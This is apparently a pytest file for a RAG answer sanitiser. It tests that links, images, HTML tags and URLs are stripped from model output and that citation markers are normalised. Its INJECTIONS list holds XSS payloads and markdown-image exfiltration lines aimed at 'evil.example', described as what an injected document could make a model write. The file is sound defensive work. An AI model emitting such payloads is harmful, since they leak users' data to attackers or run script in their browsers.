"""Nothing in an answer loads, links or runs anything, and its markers are all alike, however the text was cut."""

import random
import re

import pytest
from markdown_it import MarkdownIt

from rag.answer.clean import Cleaner, clean, unmarked

HOST = "evil.example"
# What a document could make a model write. Each must come out with no link, no image and no tag, its words kept.
INJECTIONS = [
    f"![x](http://{HOST}/a.png?q=secret)",
    f"Look: [click here](https://{HOST}/a(b)c) now",
    f'[click](https://{HOST} "title")',
    f"<img src=http://{HOST}/a.png>",
    f"<IMG\nSRC='http://{HOST}/a.png' onerror=alert(1)>",
    "<script>alert(document.cookie)</script>",
    "</div><iframe src=javascript:alert(1)>",
    "<!--><svg/onload=alert(1)>",
    f"<http://{HOST}/auto>",
    f"bare https://{HOST}/path and www.{HOST}/x and FTP://{HOST}",
    f"[a]: http://{HOST}/b.png\n\n![a]\n\n[a]",
    f"[a]: http://{HOST}\n![pixel][a] and [text][a]",
    f"[![inner](http://{HOST}/i.png)](http://{HOST})",
    f"[[deep](http://{HOST})](http://{HOST})",
    "[run](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)",
    f"hthttp://tp://{HOST} wwwww.w.{HOST} http:http:////{HOST}",
    f"`code` <b>bold</b> `![x](http://{HOST}/c.png)",
    f"\\![x](http://{HOST}) !\\[x](http://{HOST}) \\[x](http://{HOST})",
    f"[long {'word ' * 60}](http://{HOST})",
    f"[x](<http://{HOST}/with space>)",
    f"[x](\nhttp://{HOST}\n) and ![y](\thttp://{HOST})",
    f"![x]({'a' * 900}) [y](http://{HOST}/{'b' * 900})",
]
MARKERS = [
    ("Ana runs it[1].", "Ana runs it[1].", 0),
    ("Ana runs it [1, 2].", "Ana runs it [1][2].", 0),
    ("It is so [1][3].", "It is so [1][3].", 0),
    ("It is so [1-3].", "It is so [1][2][3].", 0),
    ("It is so [2–9].", "It is so [2][3].", 1),
    ("第一句【1】。第二句【9】。", "第一句[1]。第二句。", 1),
    ("As in 【2†L3-L9】 here", "As in [2] here", 0),
    ("It is so [source 2].", "It is so [2].", 0),
    ("It is so [Source 1, source 3 and 2].", "It is so [1][3][2].", 0),
    ("Twice [1][1], [2, 2].", "Twice [1], [2].", 0),
    ("Nothing [4], nothing [0] at all [99].", "Nothing, nothing at all.", 3),
    ("Half and half [1, 7].", "Half and half [1].", 1),
    ("In [2019] and [x] and [1.5] nothing changes.", "In [2019] and [x] and [1.5] nothing changes.", 0),
    ("Code `a[9]` and\n```\nb[9]\n```\nthen [9].", "Code `a[9]` and\n```\nb[9]\n```\nthen.", 1),
    ("A lone ` must hide nothing\nbehind it [9].", "A lone ` must hide nothing\nbehind it.", 1),
    ("[text](http://x.org) and [1](http://x.org)", "text and [1]", 0),
    ("An unclosed [1", "An unclosed [1", 0),
    ("Less: 3 < 4, a <3 and x<y.", "Less: 3 < 4, a <3 and x‹y.", 0),
    ("", "", 0),
]


def streamed(text: str, sizes: list[int], count: int = 3) -> tuple[str, int]:
    cleaner, shown = Cleaner(count), ""
    for size in sizes:
        shown += cleaner.feed(text[:size])
        text = text[size:]
    return shown + cleaner.feed(text) + cleaner.finish(), cleaner.removed


@pytest.mark.parametrize("text", INJECTIONS)
def test_nothing_is_left_to_load_or_follow(text: str) -> None:
    shown, _ = clean(text, 3)
    for markdown in (MarkdownIt("commonmark"), MarkdownIt("gfm-like", {"linkify": False})):
        html = markdown.render(shown)
        assert not re.search(r"<(a|img|script|iframe|svg|b|div)\b", html), html
    assert not re.search(r"://|\bwww\.|!\[|\]\(|<[a-z/!?]", shown, re.IGNORECASE), shown


@pytest.mark.parametrize("text", INJECTIONS)
def test_not_even_half_way_through(text: str) -> None:
    cleaner, shown = Cleaner(3), ""
    for character in text:
        shown += cleaner.feed(character)
        assert not re.search(r"<(a|img|script|iframe|svg)\b", MarkdownIt("commonmark").render(shown)), shown


@pytest.mark.parametrize(("text", "expected", "removed"), MARKERS)
def test_markers_become_alike(text: str, expected: str, removed: int) -> None:
    assert clean(text, 3) == (expected, removed)


@pytest.mark.parametrize("text", [text for text, _, _ in MARKERS] + INJECTIONS)
def test_the_cuts_of_the_stream_make_no_difference(text: str) -> None:
    draw = random.Random(7)
    for _ in range(40):
        sizes = [draw.randint(1, 9) for _ in range(len(text) // 4 + 1)]
        assert streamed(text, sizes) == clean(text, 3)


def test_no_invalid_or_half_marker_is_ever_shown() -> None:
    cleaner = Cleaner(2)
    shown = [cleaner.feed(character) for character in "It is so [9], and [source 1] so 【7】 on [2, 8]."]
    for i in range(len(shown)):
        text = "".join(shown[: i + 1])
        assert set(re.findall(r"\[(\d*)\]?", text)) <= {"1", "2"}
        assert "9" not in text
        assert "【" not in text
    assert "".join(shown) + cleaner.finish() == "It is so, and [1] so on [2]."


def test_plain_text_comes_word_by_word() -> None:
    cleaner = Cleaner(1)
    assert [cleaner.feed(piece) for piece in ("The ", "cat", " sat", " down")] == ["The", "", " cat", " sat"]
    assert cleaner.finish() == " down"


def test_text_without_spaces_is_not_held_back() -> None:
    assert Cleaner(1).feed("猫はマットの上に座った") == "猫はマットの上に座った"


def test_a_word_without_end_is_not_held_for_ever() -> None:
    cleaner = Cleaner(1)
    shown = "".join(cleaner.feed("x" * 500) for _ in range(10))
    assert len(shown) >= 2000
    assert len(shown + cleaner.finish().replace(" ", "")) >= 5000


@pytest.mark.parametrize(
    "text", [" " * 50_000, "[" * 50_000, "![a](" * 10_000, "`" * 50_000, "a" * 50_000, "【1" * 20_000]
)
def test_hostile_text_takes_no_time(text: str) -> None:
    cleaner = Cleaner(3)
    for i in range(0, len(text), 1000):
        cleaner.feed(text[i : i + 1000])
    cleaner.finish()


@pytest.mark.parametrize(
    ("line", "reads"),
    [
        ("- A patch of **lime**", "A patch of lime"),
        ("> ## Filling the system", "Filling the system"),
        ("| pressure, cold | 1.3 bar | as Gwen left it |", "pressure, cold · 1.3 bar · as Gwen left it"),
        ("| a | b | |---|---| | 1 | 2 |", "a · b · 1 · 2"),
        ("see [[larch-house|our house]] and [[plot-23]]", "see our house and plot-23"),
        ("2 * 3 * 4 and a_b_c stay", "2 * 3 * 4 and a_b_c stay"),
        ("", ""),
    ],
)
def test_a_quoted_line_of_markdown_reads_as_prose(line: str, reads: str) -> None:
    assert unmarked(line) == reads
